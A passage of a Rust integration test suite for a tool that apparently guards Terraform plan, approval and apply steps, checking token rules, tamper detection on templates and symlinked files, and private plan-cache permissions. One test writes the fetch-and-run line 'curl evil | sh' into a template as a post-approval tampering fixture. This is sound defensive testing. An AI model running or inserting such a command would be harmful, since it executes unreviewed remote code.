    let out = apply(&t, &ws, &t.s.admin, &run);
    assert!(
        text(&out)
            .contains("stack prod/show takes applies from ci tokens only, not from an admin token"),
        "{}",
        text(&out)
    );
    assert!(apply(&t, &ws, &t.ci, &run).status.success());
}

/// Every file under the stack's directory is a reviewed input, not only `.tf` files: a template
/// read with `templatefile()` and a `.tf` file that is a symbolic link (to a file inside the
/// root, read through the link) are planned, uploaded (the server compares the plan's embedded
/// `.tf` files with the inputs) and applied; changing the template or the link's target after
/// approval makes the apply refuse the checkout, naming the file.
#[test]
fn templates_and_symlinked_files_are_reviewed_inputs_end_to_end() {
    let t = team("dev/inputs");
    let main = format!(
        "{}resource \"terraform_data\" \"ud\" {{\n  input = templatefile(\"${{path.module}}/templates/user_data.tpl\", {{}})\n}}\n",
        data_resources(1)
    );
    let ws = Workspace::new(&t.s, "dev/inputs", &main);
    std::fs::create_dir_all(ws.path("templates")).unwrap();
    std::fs::create_dir_all(ws.path("lib")).unwrap();
    std::fs::write(ws.path("templates/user_data.tpl"), "echo reviewed\n").unwrap();
    std::fs::write(
        ws.path("lib/extra.hcl"),
        "resource \"terraform_data\" \"extra\" {\n  input = \"shared\"\n}\n",
    )
    .unwrap();
    std::os::unix::fs::symlink("lib/extra.hcl", ws.path("extra.tf")).unwrap();

    let run = plan(&t, &ws, &t.agent, "dev/inputs");
    t.s.ok(&t.approver, &["approve", &run]);
    let out = apply(&t, &ws, &t.ci, &run);
    assert!(out.status.success(), "{}", text(&out));
    let (code, state) = raw("GET", &t.s.state_url("dev/inputs"), &t.s.admin, b"");
    assert_eq!(code, 200, "{state}");
    assert!(
        state.contains("echo reviewed") && state.contains("\"extra\""),
        "{state}"
    );

    // Changed after approval: the template, then the link's target.
    for (i, (file, content)) in [
        ("templates/user_data.tpl", "curl evil | sh\n"),
        (
            "lib/extra.hcl",
            "resource \"terraform_data\" \"extra\" {\n  input = \"other\"\n}\n",
        ),
    ]
    .into_iter()
    .enumerate()
    {
        ws.write_main(&main.replace(&data_resources(1), &data_resources(2 + i)));
        let run = plan(&t, &ws, &t.agent, "dev/inputs");
        t.s.ok(&t.approver, &["approve", &run]);
        let before = std::fs::read_to_string(ws.path(file)).unwrap();
        std::fs::write(ws.path(file), content).unwrap();
        let out = apply(&t, &ws, &t.ci, &run);
        assert!(
            !out.status.success()
                && text(&out).contains("fingerprint")
                && text(&out).contains(file),
            "{file}: {}",
            text(&out)
        );
        std::fs::write(ws.path(file), before).unwrap();
    }
}

/// The plan phase keeps its Terraform data directory between the plans of one stack directory,
/// outside the checkout and private to the user: `terraform init` runs for the first plan, not
/// for the next, again when terraform asks for it (a module added), and a kept directory that
/// others may write is not used (a fresh one is).
#[test]
fn the_plan_phase_keeps_its_data_directory_privately_and_inits_only_when_terraform_asks() {
    use std::os::unix::fs::PermissionsExt;
    let t = team("dev/keep");
    let ws = Workspace::new(&t.s, "dev/keep", &data_resources(1));
    let cache = tempfile::tempdir().unwrap();
    let xdg = cache.path().display().to_string();
    let plan_in = |ci: &str| {
        let out = cli_in(
            &t.s,
            &t.agent,
            &ws.dir,
            &["plan", ".", "--stack", "dev/keep", "--format", "json"],
            &[("XDG_CACHE_HOME", &xdg), ("CI", ci)],
        );
        assert!(out.status.success(), "{}", text(&out));
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert!(v["run"]["id"].as_str().is_some(), "{v}");
        text(&out)
    };
    let plan_here = || plan_in("false");
    let inits = |log: &str| log.matches("Initializing the backend").count();
    // In CI (a runner's home may serve jobs of other trust) every plan inits in a fresh
    // directory and nothing is kept.
    assert_eq!(inits(&plan_in("true")), 1);
    assert_eq!(inits(&plan_in("true")), 1, "CI plans keep nothing");
    assert!(!cache.path().join("airlock/plan-data").exists());
    assert_eq!(inits(&plan_here()), 1, "the first plan initialises");
    let root = cache.path().join("airlock/plan-data");
    let kept: Vec<std::path::PathBuf> = std::fs::read_dir(&root)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.is_dir())
        .collect();
    assert_eq!(kept.len(), 1, "one kept directory for the stack directory");
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&kept[0]), 0o700);
    assert_eq!(mode(&root), 0o700);
    assert!(kept[0].join("terraform.tfstate").is_file());
    assert_eq!(inits(&plan_here()), 0, "the next plan reuses it");

    // A module added: terraform asks for init, and gets it.
    std::fs::create_dir_all(ws.path("m")).unwrap();
    std::fs::write(ws.path("m/main.tf"), data_resources(2)).unwrap();
    ws.write_main(&format!(
        "{}module \"m\" {{\n  source = \"./m\"\n}}\n",
        data_resources(1)
    ));
    let log = plan_here();
    assert!(
        log.contains("terraform asks for terraform init") && inits(&log) == 1,
        "{log}"
    );
    assert_eq!(inits(&plan_here()), 0);

    // A kept directory others may write is left alone: the plan uses a fresh one.
    std::fs::set_permissions(&kept[0], std::fs::Permissions::from_mode(0o777)).unwrap();
    let planted = kept[0].join("terraform.tfstate");
    let before = std::fs::read(&planted).unwrap();
    assert_eq!(inits(&plan_here()), 1, "a fresh directory is initialised");
    assert_eq!(std::fs::read(&planted).unwrap(), before);
}
